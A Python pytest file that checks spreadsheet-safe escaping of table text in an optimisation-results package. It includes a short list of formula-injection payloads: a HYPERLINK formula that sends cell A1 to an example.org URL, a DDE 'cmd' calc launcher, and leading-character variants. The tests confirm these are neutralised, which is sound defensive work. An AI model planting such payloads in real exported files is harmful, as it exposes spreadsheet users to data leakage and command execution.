"""Text in tables for people: shown by a spreadsheet, never computed by it."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import xarray as xr
from hypothesis import given
from hypothesis import strategies as st

from anello.base.cells import cell_text, for_spreadsheets, original_text
from anello.base.tables import Labels, write_columns
from anello.model.quality.report import Finding, QualityReport
from anello.optimise.results import extract, write_netcdf, write_tidy_csv
from anello.optimise.results.netcdf import read_groups
from anello.optimise.results.tables import netcdf_to_tables, tables_to_netcdf
from results_fakes import FakeData, fake_inputs, fake_solution

EVIL = [
    '=HYPERLINK("http://example.org/?"&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", EVIL)
def test_what_looks_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cell_text(text) == f"'{text}"
    assert original_text(cell_text(text)) == text


@pytest.mark.parametrize("text", ["", "north", "a=b", "-12.5", "+3e-4", "-inf", "it's", "'quoted'"])
def test_other_text_and_numbers_stay(text: str) -> None:
    assert cell_text(text) == text
    assert original_text(text) == text


@given(st.text(alphabet="'=+-@\t a1", max_size=8))
def test_any_text_comes_back(text: str) -> None:
    assert original_text(cell_text(text)) == text


def test_headers_labels_categories_and_cells_of_a_table() -> None:
    frame = pd.DataFrame(
        {"=a": ["=1", "plain"], "n": [-1.0, np.nan], "c": pd.Categorical(["@x", "y"])},
        index=["+row", "row"],
    )
    shown = for_spreadsheets(frame)
    assert list(shown.columns) == ["'=a", "n", "c"]
    assert list(shown.index) == ["'+row", "row"]
    assert shown["'=a"].tolist() == ["'=1", "plain"]
    assert shown["c"].tolist() == ["'@x", "y"]
    assert shown["n"].tolist()[0] == -1.0
    assert frame.columns[0] == "=a"
    assert frame["=a"].tolist()[0] == "=1"


def _renamed(results: xr.Dataset) -> xr.Dataset:
    evil = [EVIL[0] if loc == "a" else loc for loc in results["node_loc"].values]
    return results.assign_coords(node_loc=("node", evil))


def test_no_table_of_a_run_holds_a_formula(tmp_path: Path) -> None:
    results = _renamed(extract(FakeData(fake_inputs()), fake_solution()))
    for path in write_tidy_csv(results, tmp_path):
        with open(path, encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert cell_text(cell) == cell or cell.startswith("'")
    table = pd.read_csv(tmp_path / "carrier_prod.csv")
    assert f"'{EVIL[0]}" in set(table["loc"])


def test_findings_quote_what_a_series_said_without_letting_it_run(tmp_path: Path) -> None:
    finding = Finding(
        "not_a_number", "a.csv", EVIL[1], 3, None, None, 1, EVIL[0], "no number", "warned"
    )
    QualityReport("warn", findings=(finding,)).save_csv(tmp_path / "quality.csv")
    found = pd.read_csv(tmp_path / "quality.csv")
    assert found["value"][0] == f"'{EVIL[0]}"
    assert found["column"][0] == f"'{EVIL[1]}"


@pytest.mark.parametrize("alone", [True, False])
def test_columns_are_written_as_a_csv_writer_does(tmp_path: Path, alone: bool) -> None:
    texts = ["plain", "", "a,b", 'say "so"', "two\nlines", "\r", " spaced ", "ä"]
    numbers = np.array([0.1, -0.0, 1e300, np.nan, np.inf, 5e-324, 2.0, 1 / 3])
    places = np.arange(len(texts))[::-1]
    columns = {
        "few": Labels(texts, places),
        "many": list(reversed(texts)),
        "count, of": [1, True, None, 0, 2.5, "x", "", -1],
        "value": numbers,
        "whole": np.arange(8),
    }
    rows = [[*texts[::-1]], [*texts[::-1]], columns["count, of"]]
    rows.append(["" if np.isnan(v) else float(v) for v in numbers])
    rows.append(list(range(8)))
    for name, cells in zip(columns, rows, strict=True) if alone else [("", [])]:
        told = {name: columns[name]} if alone else columns
        with open(tmp_path / "expected.csv", "w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file, lineterminator="\n")
            writer.writerow(told)
            writer.writerows([[cell] for cell in cells] if alone else zip(*rows, strict=True))
        write_columns(told, tmp_path / "found.csv")
        expected = (tmp_path / "expected.csv").read_bytes()
        assert (tmp_path / "found.csv").read_bytes() == expected


def test_tables_made_from_a_file_become_the_same_file(tmp_path: Path) -> None:
    labels = ["=a", "'=a", "plain", "-1", "@b"]
    content = xr.Dataset(
        {"value": ("node", np.arange(5.0)), "name": ("node", np.array(labels[::-1]))},
        coords={"node": labels},
    )
    write_netcdf(content, tmp_path / "one.nc")
    netcdf_to_tables(tmp_path / "one.nc", tmp_path / "tables")
    place = tmp_path / "tables" / "root"
    assert "'=a," in (place / "value.csv").read_text(encoding="utf-8")
    assert json.loads((tmp_path / "tables" / "description.json").read_text())["format"]
    tables_to_netcdf(tmp_path / "tables", tmp_path / "two.nc")
    one, two = (read_groups(tmp_path / name)["/"] for name in ("one.nc", "two.nc"))
    assert one.identical(two)
